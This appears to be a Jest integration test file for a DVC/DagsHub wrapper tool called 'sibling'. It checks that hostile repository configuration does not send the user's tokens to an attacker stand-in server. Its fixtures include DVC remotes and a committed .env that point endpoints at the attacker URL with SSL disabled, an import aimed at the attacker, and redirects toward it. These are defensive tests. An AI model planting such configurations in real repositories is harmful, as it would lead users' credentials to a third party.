import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { connectEngine } from '../../src/container/engine.ts';
import { findProject } from '../../src/project/project.ts';
import { baseImage, runnerImage } from '../../src/run/prepare/prepare.ts';
import { actionJob, type Step } from '../rig/action-job.ts';
import { type Attacker, startAttacker } from '../rig/attacker.ts';
import { ensureBusyboxImage } from '../rig/busybox-image.ts';
import { canary } from '../rig/canary.ts';
import { type DagsHubStandIn, startDagsHub } from '../rig/dagshub/stand-in.ts';
import type { Repository } from '../rig/dagshub/world.ts';
import { runCommand } from '../rig/run-command.ts';
import { git, makeProject, removeProject, sibling } from '../rig/stage-project.ts';

const secret = canary();
const folder = mkdtempSync(join(tmpdir(), 'sibling-hostile-'));
let attacker: Attacker;
let dagsHub: DagsHubStandIn;
let repository: Repository;
let root = '';

beforeAll(async () => {
  await ensureBusyboxImage();
  attacker = await startAttacker();
  dagsHub = await startDagsHub({ mlflow: { uri: attacker.url } });
  dagsHub.addUser('ada', secret.token);
  repository = dagsHub.addRepository('ada', 'iris', { mirror: true });
  root = makeProject({
    stages: { one: { script: 'echo 1 > out', entry: { deps: ['stages/one'], outs: ['out'] } } },
    files: hostileFiles(),
  });
});
afterAll(async () => {
  await Promise.all([dagsHub.stop(), attacker.stop()]);
  removeProject(root);
  rmSync(folder, { recursive: true });
});
beforeEach(() => {
  dagsHub.faults.set([]);
  dagsHub.requests.length = 0;
  attacker.received.length = 0;
});

/** All that DVC's configuration can say to lead a push elsewhere. */
function hostileFiles(): Record<string, string> {
  const s3 = [
    'url = s3://dvc',
    `endpointurl = ${attacker.url}`,
    'ssl_verify = false',
    'use_ssl = false',
    'session_token = theirs',
    'profile = theirs',
    'allow_anonymous_login = false',
  ];
  const http = [
    `url = ${attacker.url}/objects`,
    'auth = custom',
    'custom_auth_header = X-Token',
    'password = theirs',
    'ssl_verify = false',
  ];
  const remote = (name: string, lines: string[]) =>
    [`['remote "${name}"']`, ...lines.map((line) => `    ${line}`), ''].join('\n');
  const remotes = remote('sibling', s3) + remote('evil', s3) + remote('web', http);
  return {
    '.gitignore': '.env\n',
    '.dvc/config': `[core]\n    remote = evil\n    site_cache_dir = /tmp/theirs\n    autostage = true\n${remotes}`,
    '.dvc/config.local': `[core]\n    remote = web\n${remotes}`,
    '.dvc/.gitignore': '/tmp\n/cache\n',
    '.dvc/hooks/post-push': '#!/bin/sh\nexit 1\n',
  };
}

/** What the user has set, in the environment. */
function credentials(): Record<string, string> {
  return {
    DAGSHUB_USER_NAME: 'ada',
    DAGSHUB_TOKEN: secret.token,
    DAGSHUB_REPO: 'ada/iris',
    DAGSHUB_CLIENT_HOST: dagsHub.url,
  };
}

async function stored(): Promise<string[]> {
  const { folder: storage } = await dagsHub.storage(repository);
  const entries = readdirSync(join(storage, 'dvc'), { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map(({ name }) => name);
}

function expectNothingTold(): void {
  expect(attacker.received.flatMap((request) => secret.hits(request))).toEqual([]);
}

describe('a project whose DVC configuration leads elsewhere', () => {
  test('run, push and pull go to the user’s own host, and to no other', async () => {
    const env = credentials();
    expect(await sibling(root, ['run'], { env })).toMatchObject({ code: 0 });
    const pushed = await sibling(root, ['push'], { env });
    expect(pushed).toMatchObject({ code: 0 });
    const objects = (await stored()).length;
    expect(objects).toBeGreaterThan(1);
    for (const path of ['out', '.dvc/cache']) rmSync(join(root, path), { recursive: true });
    expect(await sibling(root, ['pull'], { env })).toMatchObject({ code: 0 });
    expect(existsSync(join(root, 'out'))).toBe(true);
    expect(attacker.received).toEqual([]);
    expect(secret.hits(pushed.stdout + pushed.stderr)).toEqual([]);
  });

  test('an out that names one of its remotes is sent nowhere', async () => {
    const md5 = '6137cde4893c59f76f005a8123d8e8e6'; // of "data\n"
    const objects = join(root, '.dvc/cache/files/md5/61');
    mkdirSync(objects, { recursive: true });
    for (const path of [join(objects, md5.slice(2)), join(root, 'data.txt')]) {
      writeFileSync(path, 'data\n');
    }
    const out = { path: 'data.txt', md5, size: 5, hash: 'md5', remote: 'evil' };
    const file = join(root, 'data.txt.dvc');
    writeFileSync(file, JSON.stringify({ outs: [out] })); // JSON is YAML
    const { code, stderr } = await sibling(root, ['push', 'data.txt.dvc'], { env: credentials() });
    rmSync(file);
    expect(stderr).toMatch(/an out names another remote/);
    expect(code).toBe(3);
    expect(attacker.received).toEqual([]);
  });

  test('in a job: setup-dvc, run-stage and push-artifacts keep to it too', async () => {
    const workspace = join(folder, 'workspace');
    git(folder, 'clone', '--quiet', root, workspace);
    const env = {
      GITHUB_JOB: 'one',
      GITHUB_REPOSITORY: 'ada/iris',
      DAGSHUB_CLIENT_HOST: dagsHub.url,
      ...{ SIBLING_TRANSPORT: 'folder', SIBLING_LOCAL_REMOTE: join(folder, 'between-jobs') },
    };
    const job = actionJob({ workspace, folder: join(folder, 'job'), env });
    const steps: Step[] = [
      await job.run('setup-dvc', {
        ...{ 'dagshub-user': 'ada', 'dagshub-token': secret.token, 'dagshub-repo': 'ada/iris' },
        check: 'true',
      }),
      await job.run('run-stage', { stage: 'one', force: 'one' }),
      await job.run('push-artifacts', { stage: 'one' }),
    ];
    for (const { code, log } of steps) if (code !== 0) throw new Error(log);
    expect(dagsHub.requests.filter(({ service }) => service === 's3').length).toBeGreaterThan(0);
    await steps[0]?.post();
    expect(attacker.received).toEqual([]);
    expect(secret.files(folder)).toEqual([]);
  });
});

test('an import gets none of the credentials in the environment of DVC’s container', async () => {
  const workspace = join(folder, 'in-container');
  git(folder, 'clone', '--quiet', root, workspace);
  const fs_config = { endpointurl: attacker.url, region: 'us-east-1' };
  const deps = [{ path: 's3://theirs/x.txt', fs_config }];
  const imported = { deps, outs: [{ path: 'x.txt' }] };
  writeFileSync(join(workspace, 'x.txt.dvc'), JSON.stringify(imported)); // JSON is YAML
  const pipeline = join(workspace, 'dvc.yaml');
  const text = readFileSync(pipeline, 'utf8');
  writeFileSync(pipeline, text.replace('- stages/one', '- stages/one\n      - x.txt'));
  const request = {
    ...{ engine: await connectEngine(), project: findProject(workspace), env: process.env },
    ...{ report: () => undefined, verbose: false, signal: new AbortController().signal },
  };
  const image = await runnerImage(request, await baseImage(request));
  const env = {
    ...{ AWS_ACCESS_KEY_ID: secret.token, AWS_SECRET_ACCESS_KEY: secret.token },
    ...{ AWS_ENDPOINT_URL: `${dagsHub.url}/ada/iris.s3`, DVC_REMOTE_URL: 's3://dvc' },
    AWS_REGION: 'us-east-1',
  };
  const { code, stdout, stderr } = await runCommand(
    'docker',
    [
      ...['run', '--rm', '--network', 'host', '--workdir', workspace],
      ...['--volume', '/var/run/docker.sock:/var/run/docker.sock'],
      ...['--volume', `${workspace}:${workspace}`],
      ...Object.keys(env).flatMap((name) => ['--env', name]),
      ...[image.reference, 'sibling', 'run'],
    ],
    { env },
  );
  expect(stdout + stderr).toMatch(/Unable to locate credentials/);
  expect(code).not.toBe(0);
  expect(attacker.received).toEqual([]);
});

test('a .env that came with the repository does not say where credentials go', async () => {
  const workspace = join(folder, 'with-env');
  git(folder, 'clone', '--quiet', root, workspace);
  rmSync(join(workspace, '.dvc/config.local'));
  const own = '[core]\n    remote = near\n[\'remote "near"\']\n    url = ../near\n';
  writeFileSync(join(workspace, '.dvc/config'), own);
  const env = { AWS_ACCESS_KEY_ID: secret.token, AWS_SECRET_ACCESS_KEY: secret.token };
  expect(await sibling(workspace, ['run'], { env })).toMatchObject({ code: 0 });
  writeFileSync(
    join(workspace, '.env'),
    `DVC_REMOTE_URL=s3://dvc\nAWS_ENDPOINT_URL=${attacker.url}\n`,
  );
  git(workspace, 'add', '--force', '.env');
  const { code, stderr } = await sibling(workspace, ['push'], { env });
  expect(code).toBe(0);
  expect(stderr).toMatch(/\.env is not read, for Git tracks it/);
  expect(stderr).toMatch(/Pushing to .*\bnear\b/);
  expect(attacker.received).toEqual([]);
});

test.each(['push', 'run --force', 'doctor'])(
  'sibling %s sends no token over http',
  async (words) => {
    const env = { ...credentials(), DAGSHUB_CLIENT_HOST: 'http://dagshub.example.org' };
    const { code, stdout, stderr } = await sibling(root, words.split(' '), { env });
    expect(stdout + stderr).toMatch(
      /over http anybody on the way could read the token(.|\n)*Set DAGSHUB_CLIENT_HOST=https:/,
    );
    expect(code).toBe(8);
  },
);

describe('a host that leads on to another', () => {
  beforeEach(() => {
    const headers = { location: `${attacker.url}/took` };
    dagsHub.faults.set([307, 302].map((kind) => ({ kind: kind as 307, headers })));
  });

  test('the check of credentials does not follow', async () => {
    const job = actionJob({
      workspace: root,
      folder: join(folder, 'redirected'),
      env: { DAGSHUB_CLIENT_HOST: dagsHub.url },
    });
    const { code, log } = await job.run('setup-dvc', {
      ...{ 'dagshub-user': 'ada', 'dagshub-token': secret.token, 'dagshub-repo': 'ada/iris' },
      check: 'true',
    });
    expect(code).toBe(1);
    expect(log).toMatch(/leads to another address/);
    expect(attacker.received).toEqual([]);
  });

  test('a push tells nobody else', async () => {
    const { code } = await sibling(root, ['push'], { env: credentials() });
    expect(code).not.toBe(0);
    expect(dagsHub.requests.length).toBeGreaterThan(0);
    expectNothingTold();
  });
});
